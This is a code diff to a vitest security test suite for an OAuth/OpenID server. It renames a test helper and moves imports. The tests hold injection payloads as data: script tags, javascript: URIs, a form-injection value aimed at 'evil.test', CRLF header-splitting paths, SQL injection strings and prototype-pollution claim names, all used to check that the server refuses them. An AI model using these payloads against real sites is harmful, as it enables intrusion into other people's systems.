@@ -1,23 +1,22 @@
 import { mkdtemp, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterEach, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { readForm } from '../../src/testing/scripted-browser.ts'
-import { obtainTokens } from '../http/calls.ts'
+import { obtainTokens } from '../fixtures/client-calls.ts'
 import {
   appSecret,
   authorizeFully,
   authorizePath,
   basic,
-  openWorld,
   post,
   redeem,
   signInAs,
   type World,
-} from '../http/world.ts'
+} from '../fixtures/server-without-network.ts'
+import { openOwnWorld } from '../fixtures/use-world.ts'
 
 let world: World
-afterEach(() => world.server.close())
 
 const payloads = [
   '<script>alert(1)</script>',
@@ -39,7 +38,7 @@ function expectInert(html: string): void {
 
 describe('what a request carries is text on our pages (C-62)', () => {
   test.each(payloads)('%s', async (payload) => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const browser = world.browser()
     for (const path of [
       authorizePath({ client_id: payload }),
@@ -60,7 +59,7 @@ describe('what a request carries is text on our pages (C-62)', () => {
   })
 
   test('a posted response is a form with exactly our fields (C-64)', async () => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const state = '"/></form><form action="https://evil.test"><input name="x" value="'
     const browser = world.browser()
     const consent = await signInAs(
@@ -78,7 +77,7 @@ describe('what a request carries is text on our pages (C-62)', () => {
   })
 
   test('no header can be split, and no cookie set, by what is sent (C-04)', async () => {
-    world = await openWorld()
+    world = await openOwnWorld()
     for (const path of [
       '/authorize?%0d%0aSet-Cookie:%20a=b',
       '/logout?state=%0d%0aSet-Cookie:%20a=b',
@@ -95,7 +94,7 @@ describe('what a request carries is text on our pages (C-62)', () => {
 
 describe('what an app or a person is called is text too (C-61, C-94)', () => {
   test.each(payloads)('%s', async (payload) => {
-    world = await openWorld({ accounts: { signUp: 'open', minimumPasswordLength: 15 } })
+    world = await openOwnWorld({ accounts: { signUp: 'open', minimumPasswordLength: 15 } })
     await world.server.clients.create({
       clientId: 'named',
       name: payload,
@@ -120,7 +119,7 @@ describe('what an app or a person is called is text too (C-61, C-94)', () => {
   test.each(['clientUri', 'policyUri', 'tosUri', 'jwksUri'])(
     '%s cannot be a script (C-10)',
     async (member) => {
-      world = await openWorld()
+      world = await openOwnWorld()
       for (const uri of [
         'javascript:alert(1)',
         ' javascript:alert(1)',
@@ -152,7 +151,7 @@ describe('what an app or a person is called is text too (C-61, C-94)', () => {
     '//c.test/cb',
     'com.example.app:/cb',
   ])('the redirect URI %j cannot be registered for a web app (C-07, C-08, C-10)', async (uri) => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const registration = { name: 'x', applicationType: 'web' as const, redirectUris: [uri] }
     await expect(world.server.clients.create(registration)).rejects.toMatchObject({ code: 'INVALID' })
   })
@@ -161,7 +160,7 @@ describe('what an app or a person is called is text too (C-61, C-94)', () => {
 describe('storage (C-101)', () => {
   test('takes what looks like SQL, and names from a prototype, for names', async () => {
     const folder = await mkdtemp(join(tmpdir(), 'latchkey-'))
-    world = await openWorld({ storage: `sqlite:${join(folder, 'test.db')}` })
+    world = await openOwnWorld({ storage: `sqlite:${join(folder, 'test.db')}` })
     const browser = world.browser()
     for (const name of [
       "' OR '1'='1",
@@ -202,14 +201,14 @@ describe('JSON and forms of another shape (C-100)', () => {
     'null',
     `{"userinfo":${'{"a":'.repeat(100)}1${'}'.repeat(100)}}`,
   ])('the claims parameter %s is refused', async (claims) => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const visit = await world.browser().open(authorizePath({ claims }))
     expect(visit.url).toContain('error=invalid_request')
     expect(({} as Record<string, unknown>).userinfo).toBeUndefined()
   })
 
   test('claims named after what every object has are ignored', async () => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const claims =
       '{"userinfo":{"constructor":null,"toString":{"essential":true},"hasOwnProperty":null},"id_token":{"valueOf":null}}'
     const tokens = await obtainTokens(world, 'app', { claims, scope: 'openid' })
@@ -217,7 +216,7 @@ describe('JSON and forms of another shape (C-100)', () => {
   })
 
   test.each(['code[]', 'code[0]', 'code[a]', 'CODE'])('%s is not code', async (name) => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const code = (await authorizeFully(world.browser())).get('code') ?? ''
     const form = { grant_type: 'authorization_code', [name]: code }
     expect((await post(world.server, '/token', form, basic('app', appSecret))).status).toBe(400)
@@ -225,7 +224,7 @@ describe('JSON and forms of another shape (C-100)', () => {
   })
 
   test('a JSON body is not a form', async () => {
-    world = await openWorld()
+    world = await openOwnWorld()
     const body = JSON.stringify({ grant_type: 'client_credentials', scope: ['books:read'] })
     const headers = { ...basic('cron', appSecret), 'content-type': 'application/json' }
     const request = new Request(`${world.server.issuer}/token`, { method: 'POST', body, headers })
